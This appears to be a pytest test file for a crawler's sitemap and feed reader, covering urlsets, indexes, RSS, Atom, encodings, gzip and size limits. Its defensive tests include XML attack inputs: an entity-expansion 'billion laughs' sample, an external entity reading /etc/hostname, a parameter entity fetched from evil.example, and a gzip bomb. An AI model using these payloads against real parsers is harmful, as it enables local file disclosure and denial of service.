"""Reading sitemaps of each format: https://www.sitemaps.org/protocol.html, and the feeds that it accepts."""

import gzip
from collections.abc import Callable

import pytest

from crawler.sitemaps.findings import Entry, Sitemap, SitemapKind, SitemapLimits
from crawler.sitemaps.read import read_sitemap

URL = "http://a.example/dir/sitemap.xml"
NS = "http://www.sitemaps.org/schemas/sitemap/0.9"


def read(text: str | bytes, limits: SitemapLimits | None = None, content_type: str = "") -> Sitemap:
    body = text.encode() if isinstance(text, str) else text
    return read_sitemap(body, url=URL, content_type=content_type, limits=limits or SitemapLimits())


def urls(sitemap: Sitemap) -> list[str]:
    return [entry.url for entry in sitemap.entries]


def urlset(*locs: str) -> str:
    return f'<urlset xmlns="{NS}">' + "".join(f"<url><loc>{loc}</loc></url>" for loc in locs) + "</urlset>"


def test_a_urlset_as_the_protocol_prints_it() -> None:
    sitemap = read(
        f"""<?xml version="1.0" encoding="UTF-8"?>
        <urlset xmlns="{NS}">
          <url>
            <loc>http://www.example.com/</loc><lastmod>2005-01-01</lastmod>
            <changefreq>monthly</changefreq><priority>0.8</priority>
          </url>
          <url><loc>
             http://www.example.com/catalog?item=12&amp;desc=vacation_hawaii
          </loc></url>
        </urlset>"""
    )
    assert sitemap == Sitemap(
        SitemapKind.URLSET,
        entries=(
            Entry("http://www.example.com/", 1104537600.0),
            Entry("http://www.example.com/catalog?item=12&desc=vacation_hawaii"),
        ),
    )


def test_an_index_lists_sitemaps() -> None:
    sitemap = read(
        f"""<sitemapindex xmlns="{NS}">
        <sitemap><loc>http://a.example/1.xml.gz</loc><lastmod>2004-10-01T18:23:17+00:00</lastmod></sitemap>
        <sitemap><loc>/2.xml</loc></sitemap></sitemapindex>"""
    )
    assert sitemap.kind is SitemapKind.INDEX
    assert sitemap.sitemaps == ("http://a.example/1.xml.gz", "http://a.example/2.xml")
    assert sitemap.entries == ()


@pytest.mark.parametrize("prefix", ["", "s:", "undeclared:"])
def test_namespaces_may_have_any_prefix(prefix: str) -> None:
    text = "<P:urlset xmlns:s='x'><P:url><P:loc>http://a.example/x</P:loc></P:url></P:urlset>".replace("P:", prefix)
    assert urls(read(text)) == ["http://a.example/x"]


def test_the_urls_of_images_are_not_pages() -> None:
    image = "<image:image><image:loc>http://a.example/i.png</image:loc></image:image>"
    assert urls(read(f"<urlset><url>{image}<loc>http://a.example/x</loc>{image}</url></urlset>")) == [
        "http://a.example/x"
    ]


def test_each_url_is_listed_once() -> None:
    assert urls(read(urlset("http://a.example/x", "HTTP://A.example:80/x#top"))) == ["http://a.example/x"]


def test_invalid_urls_are_counted() -> None:
    sitemap = read(urlset("ftp://a.example/", "http://a.example/x", "", "http://["))
    assert urls(sitemap) == ["http://a.example/x"]
    assert sitemap.notes == ("3 of 4 entries ignored, the first: not an http or https URL: ftp://a.example/",)
    assert not sitemap.truncated


def test_invalid_dates_are_counted() -> None:
    sitemap = read("<urlset><url><loc>/x</loc><lastmod>yesterday</lastmod></url></urlset>")
    assert sitemap.entries == (Entry("http://a.example/x"),)
    assert sitemap.notes == ("1 dates not understood",)


@pytest.mark.parametrize(
    "encode",
    [
        lambda text: text.encode("latin-1"),
        lambda text: text.replace("iso-8859-1", "utf-8").encode(),
        lambda text: text.replace("iso-8859-1", "utf8").encode("utf-8-sig"),
        lambda text: text.replace("iso-8859-1", "utf-16").encode("utf-16"),
        lambda text: text.replace("iso-8859-1", "UTF-16").encode("utf-16-be"),
        lambda text: text.replace("iso-8859-1", "utf-16").encode("utf-16-le"),
        lambda text: text.replace("iso-8859-1", "utf-16").encode(),  # declared wrongly
        lambda text: text.replace("iso-8859-1", "windows-1252").encode("cp1252"),
        lambda text: text.replace("iso-8859-1", "idna").encode(),  # a codec, but no encoding of XML
        lambda text: "\r\n \n" + text.replace("iso-8859-1", "utf-8"),
    ],
)
def test_encodings(encode: Callable[[str], bytes]) -> None:
    text = "<?xml version='1.0' encoding='iso-8859-1'?><urlset><url><loc>http://a.example/ü</loc></url></urlset>"
    assert urls(read(encode(text))) == ["http://a.example/%C3%BC"]


def test_a_url_in_another_encoding_than_declared_is_ignored() -> None:
    sitemap = read(urlset("http://a.example/ü", "http://a.example/x").encode("latin-1"))
    assert urls(sitemap) == ["http://a.example/x"]
    assert "in another encoding" in sitemap.notes[0]


def test_a_text_file_has_a_url_a_line() -> None:
    sitemap = read("\ufeffhttp://a.example/1\r\n\r\n http://a.example/2 \rhttps://b.example/\nnot a url\n/x\n")
    assert sitemap.kind is SitemapKind.TEXT
    assert urls(sitemap) == ["http://a.example/1", "http://a.example/2", "https://b.example/"]
    assert sitemap.notes[0].startswith("2 of 5 entries ignored")


def test_a_line_too_long_for_a_url_does_not_end_a_text_file() -> None:
    sitemap = read("http://a.example/" + "x" * 200_000 + "\nhttp://a.example/2")
    assert urls(sitemap) == ["http://a.example/2"]


def test_rss_2() -> None:
    sitemap = read(
        """<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel>
        <link>http://a.example/</link><atom:link rel="self" href="http://a.example/feed"/>
        <item><title>x</title><link>/1</link><guid>http://a.example/other</guid>
          <pubDate>Sat, 07 Sep 2002 00:00:01 GMT</pubDate></item>
        <item><guid>http://a.example/2</guid><pubDate>7 Sep 02 01:00 +0100</pubDate></item>
        <item><guid isPermaLink="false">http://a.example/3</guid></item>
        <item><guid>17</guid></item>
        </channel></rss>"""
    )
    assert sitemap.kind is SitemapKind.RSS
    assert sitemap.entries == (
        Entry("http://a.example/1", 1031356801.0),
        Entry("http://a.example/2", 1031356800.0),
    )
    assert sitemap.notes[0].startswith("2 of 4 entries ignored")


def test_rss_1_has_its_items_beside_the_channel() -> None:
    sitemap = read(
        """<rdf:RDF xmlns="http://purl.org/rss/1.0/"><channel><link>http://a.example/</link></channel>
        <item rdf:about="x"><link>http://a.example/1</link><dc:date>2002-09-07T00:00Z</dc:date></item></rdf:RDF>"""
    )
    assert (sitemap.kind, sitemap.entries) == (SitemapKind.RSS, (Entry("http://a.example/1", 1031356800.0),))


def test_rss_091_names_a_dtd_which_is_not_fetched() -> None:
    doctype = '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/rss.dtd">'
    sitemap = read(doctype + "<rss><channel><item><link>http://a.example/1</link></item></channel></rss>")
    assert (urls(sitemap), sitemap.truncated) == (["http://a.example/1"], False)


def test_atom() -> None:
    sitemap = read(
        """<feed xmlns="http://www.w3.org/2005/Atom" xml:base="http://b.example/blog/"><link href="/"/>
        <entry><link rel="edit" href="no"/><link href="1"/><link rel="alternate" href="later"/>
          <published>2000-01-01</published><updated>2002-09-07T00:00:00.5Z</updated></entry>
        <entry xml:base="http://c.example/"><link rel="alternate" href="2"/><published>2002-09-07</published></entry>
        </feed>"""
    )
    assert sitemap.kind is SitemapKind.ATOM
    assert sitemap.entries == (
        Entry("http://b.example/blog/1", 1031356800.0),
        Entry("http://c.example/2", 1031356800.0),
    )


def test_gzip_is_told_by_its_first_octets() -> None:
    text = urlset("http://a.example/1").encode()
    assert read(gzip.compress(text)) == read(text)
    assert read(gzip.compress(text[:30]) + gzip.compress(text[30:]) + b"\0" * 9) == read(text)


def test_truncated_gzip_yields_its_beginning() -> None:
    text = urlset(*(f"http://a.example/{number * 7919}" for number in range(20_000))).encode()
    packed = gzip.compress(text)
    sitemap = read(packed[: len(packed) // 2])
    assert urls(sitemap) == urls(read(text))[: len(sitemap.entries)]
    assert len(sitemap.entries) > 5000
    assert sitemap.truncated
    assert sitemap.notes == ("not read to the end: gzip: it ends too early",)


def test_gzip_that_fails_its_check_is_noted() -> None:
    text = urlset(*(f"http://a.example/{number * 7919}" for number in range(20_000))).encode()
    sitemap = read(gzip.compress(text)[:-8] + bytes(8))
    assert urls(sitemap) == urls(read(text))[: len(sitemap.entries)]
    assert len(sitemap.entries) > 5000
    assert sitemap.notes[0].startswith("not read to the end: gzip: broken (")


def test_truncated_xml_yields_its_beginning() -> None:
    sitemap = read(urlset("http://a.example/1", "http://a.example/2")[:-25])
    assert urls(sitemap) == ["http://a.example/1"]
    assert sitemap.truncated
    assert sitemap.notes == ("not read to the end: broken XML: no element found: line 1, column 124",)


def test_xml_with_an_error_yields_its_beginning() -> None:
    sitemap = read(urlset("http://a.example/1", "http://a.example/?a=1&b=2", "http://a.example/3"))
    assert (urls(sitemap), sitemap.truncated) == (["http://a.example/1"], True)


@pytest.mark.parametrize(
    "body",
    [
        "<!DOCTYPE html><html><body><p>Not found<br></body></html>",
        "<html xmlns='http://www.w3.org/1999/xhtml'><head/></html>",
    ],
)
def test_html_is_no_sitemap(body: str) -> None:
    assert read(body, content_type="text/html") == Sitemap(
        SitemapKind.UNKNOWN, notes=("not a sitemap (served as 'text/html'): the document is <html>",)
    )


@pytest.mark.parametrize(
    ("body", "why"),
    [
        (b"", "neither XML nor a list of URLs"),
        (b" \r\n\t", "neither XML nor a list of URLs"),
        (b"%PDF-1.4\n\xff\xfe\x00", "neither XML nor a list of URLs"),
        (b"<", "broken XML: unclosed token: line 1, column 0"),
        (b"\x1f\x8b", "gzip: it ends too early"),
        (b"\x1f\x8bxyz", "gzip: broken (Error -3 while decompressing data: unknown compression method)"),
    ],
)
def test_a_body_that_is_no_sitemap(body: bytes, why: str) -> None:
    assert read(body) == Sitemap(SitemapKind.UNKNOWN, notes=(f"not a sitemap: {why}",))


@pytest.mark.parametrize(
    "subset",
    [
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">',  # a billion laughs, in small
        '<!ENTITY c SYSTEM "file:///etc/hostname">',
        '<!ENTITY % c SYSTEM "http://evil.example/x.dtd"> %c;',
        '<!ATTLIST loc a CDATA "b">',
    ],
)
def test_declarations_end_the_reading(subset: str) -> None:
    sitemap = read(f"<!DOCTYPE urlset [{subset}]>" + urlset("http://a.example/&c;"))
    assert sitemap == Sitemap(
        SitemapKind.UNKNOWN, notes=("not a sitemap: a DOCTYPE with declarations in it, which are refused",)
    )


def test_an_undeclared_entity_is_dropped() -> None:
    sitemap = read('<!DOCTYPE urlset SYSTEM "x.dtd">' + urlset("http://a.example/&c;x"))
    assert urls(sitemap) == ["http://a.example/x"]


@pytest.mark.parametrize(
    ("limits", "body", "count", "why"),
    [
        (SitemapLimits(max_entries=2), urlset("/1", "ftp://", "/3"), 1, "more than 2 entries"),
        (SitemapLimits(max_entries=2), "http://a.example/1\n" * 3, 1, "more than 2 entries"),
        (SitemapLimits(max_bytes=100), urlset("/1", "/2", "/3"), 1, "more than 100 bytes"),
        (SitemapLimits(max_bytes=100), gzip.compress(urlset("/1", "/2", "/3").encode()), 1, "more than 100 bytes"),
        (SitemapLimits(max_depth=3), "<urlset><url><loc>/1</loc></url><a><b><c/></b></a></urlset>", 1, "3 deep"),
        (SitemapLimits(max_elements=4), urlset("/1", "/2"), 1, "more than 4 elements"),
        (SitemapLimits(max_elements=2), "http://a.example/1\n\n\nhttp://a.example/2", 1, "more than 2 lines"),
        (SitemapLimits(), urlset("/1")[:-9] + f"<!--{'x' * 500_000}--></urlset>", 1, "a tag of more than 262144 bytes"),
    ],
)
def test_limits(limits: SitemapLimits, body: str | bytes, count: int, why: str) -> None:
    sitemap = read(body, limits)
    assert len(sitemap.entries) == count
    assert sitemap.truncated
    assert why in sitemap.notes[-1]
    assert sitemap.notes[-1].startswith("not read to the end: ")


def test_a_file_at_its_limits_is_not_truncated() -> None:
    body = urlset("/1", "/2")
    assert not read(body, SitemapLimits(max_entries=2, max_bytes=len(body), max_depth=3, max_elements=5)).truncated


def test_a_gzip_bomb_is_not_decompressed() -> None:
    sitemap = read(gzip.compress(b"<urlset>" + b" " * 60_000_000))
    assert sitemap == Sitemap(
        SitemapKind.URLSET, truncated=True, notes=("not read to the end: more than 52428800 bytes",)
    )


def test_the_urls_together_are_bounded() -> None:
    """A long base makes long URLs of short ones."""
    base = f"http://a.example/{'x' * 5_000}/"
    entries = "".join(f"<entry><link href='{n}'/></entry>" for n in range(100))
    sitemap = read(f"<feed xml:base='{base}'>{entries}</feed>", SitemapLimits(max_chars=50_000))
    assert len(sitemap.entries) == 9
    assert sitemap.notes == ("not read to the end: URLs of more than 50000 characters",)
